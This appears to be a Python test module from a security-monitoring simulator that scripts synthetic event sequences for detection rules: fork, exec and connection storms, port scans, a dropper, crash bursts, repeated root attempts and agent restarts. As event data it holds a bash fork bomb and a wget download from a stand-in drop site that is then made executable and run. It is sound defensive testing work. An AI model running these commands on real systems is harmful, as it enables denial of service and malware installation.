"""Attacks that are visible only over time: storms, scans, chains and repeats; and an agent's restart, which is none."""

# ruff: noqa: S108 - paths are written into events, not used

from tocsin.simulator import hooks
from tocsin.simulator.attacks import DROP_SITE, Attack
from tocsin.simulator.script import Script

FORKS = 550
"""More than the 500 forks or execs in 10 s of a storm rule."""
CONNECTS = 1_100
"""More than the 1,000 connections in 10 s of a storm rule."""
_VICTIM = "198.51.100.77"
_SCANNED = (
    21, 22, 23, 25, 53, 80, 110, 111, 139, 143, 389, 443, 445, 993, 1_433, 1_521, 2_049, 2_375, 2_379, 3_306, 3_389,
    5_432, 5_900, 6_379, 8_080, 9_200,
)  # fmt: skip
"""More ports than the 20 in a minute of the scan rule."""
_SWEPT = 55
"""More addresses than the 50 of the sweep rule."""
_CRASHES = 12
"""More than the 10 crashes in a minute of the crash rule."""
_KILLS = 6
"""More than the 5 kills in five minutes of the enforcement rule."""


def fork_storm(forks: int = FORKS) -> Attack:
    """One shell forks *forks* times without an exec: one exec and a flood of exits."""

    def attack(s: Script) -> None:
        shell = s.exec(s.home.worker, "/bin/bash", '-c ":(){ :|:& };:"')
        children = [s.fork(shell) for _ in range(forks)]
        s.hook(shell, hooks.forked(shell.pid, children[0].pid))
        s.throttle("THROTTLE_START")
        for child in children:
            s.exit(child, status=254)
        s.exit(shell, signal="SIGKILL")
        s.throttle("THROTTLE_STOP")

    return attack


def exec_storm(execs: int = FORKS) -> Attack:
    """A shell starts the same small program *execs* times."""

    def attack(s: Script) -> None:
        shell = s.exec(s.home.worker, "/bin/sh", '-c "while :; do /bin/true; done"')
        for _ in range(execs):
            s.run(shell, "/bin/true")
        s.exit(shell, signal="SIGTERM")

    return attack


def connect_storm(connects: int = CONNECTS) -> Attack:
    """A program floods one address with *connects* connections."""

    def attack(s: Script) -> None:
        flood = s.exec(s.home.worker, "/app/node_modules/.bin/loadtest", f"-c 500 https://{_VICTIM}/")
        first = s.rng.randrange(20_000, 40_000)
        for n in range(connects):
            s.hook(flood, hooks.connect(s.address, first + n, _VICTIM, 443, first + n))
        s.exit(flood, signal="SIGTERM")

    return attack


def port_scan(s: Script) -> None:
    """A program tries every known port of one address, then one port of each address of a network."""
    scan = s.exec(s.home.worker, "/usr/local/bin/python3.12", '-c "import socket,sys;exec(sys.stdin.read())"')
    targets = [("10.244.3.20", port) for port in _SCANNED] + [(f"10.244.4.{n}", 22) for n in range(1, _SWEPT + 1)]
    for source, (address, port) in enumerate(targets, 41_000):
        s.hook(scan, hooks.connect(s.address, source, address, port, source))
    s.exit(scan)


def dropper(s: Script) -> None:
    """A program is downloaded to a temporary directory, made executable and started."""
    path = "/tmp/.cache/.u"
    shell = s.exec(s.home.worker, "/bin/bash", "/builds/app/configure")
    fetch = s.exec(shell, "/usr/bin/wget", f"-q -O {path} http://{DROP_SITE}/u")
    s.hook(fetch, hooks.connect(s.address, 43_760, DROP_SITE, 80, 43_760))
    s.exit(fetch)
    change = s.exec(shell, "/bin/chmod", f"+x {path}")
    s.hook(change, hooks.chmod(path, 0o755))
    s.exit(change)
    dropped = s.exec(shell, path, "--daemon")
    s.hook(dropped, hooks.connect(s.address, 43_782, DROP_SITE, 8_443, 43_782))
    s.exit(dropped)
    s.exit(shell)


def crash_burst(s: Script) -> None:
    """A service receives input that crashes its child processes, several times."""
    for _ in range(_CRASHES):
        child = s.fork(s.home.worker)
        s.hook(child, hooks.accept(s.address, 8_000, "10.244.0.77", s.rng.randrange(32_768, 60_999), 8_000))
        s.exit(child, signal="SIGSEGV", status=139)


def repeated_enforcement(s: Script) -> None:
    """A program tries to become root several times; each time the exit confirms the policy's kill."""
    for attempt in range(_KILLS):
        tool = s.exec(s.home.worker, "/opt/evil/become", f"--attempt {attempt}")
        s.hook(tool, hooks.kill_setuid_root())
        s.exit(tool, signal="SIGKILL", status=137)


def agent_throttled(s: Script) -> None:
    """A program causes more events than its limit, and the agent throttles the container."""
    noise = s.exec(s.home.worker, "/usr/bin/find", "/ -xdev -newer /tmp/.t -type f")
    s.throttle("THROTTLE_START")
    s.rate_limited(s.rng.randrange(5_000, 50_000))
    s.throttle("THROTTLE_STOP")
    s.exit(noise)


def agent_rollout(s: Script) -> None:
    """The agent of a node restarts and reports every running process with its old start time."""
    for process in s.home.neighbours:
        s.existing(process, again=True)
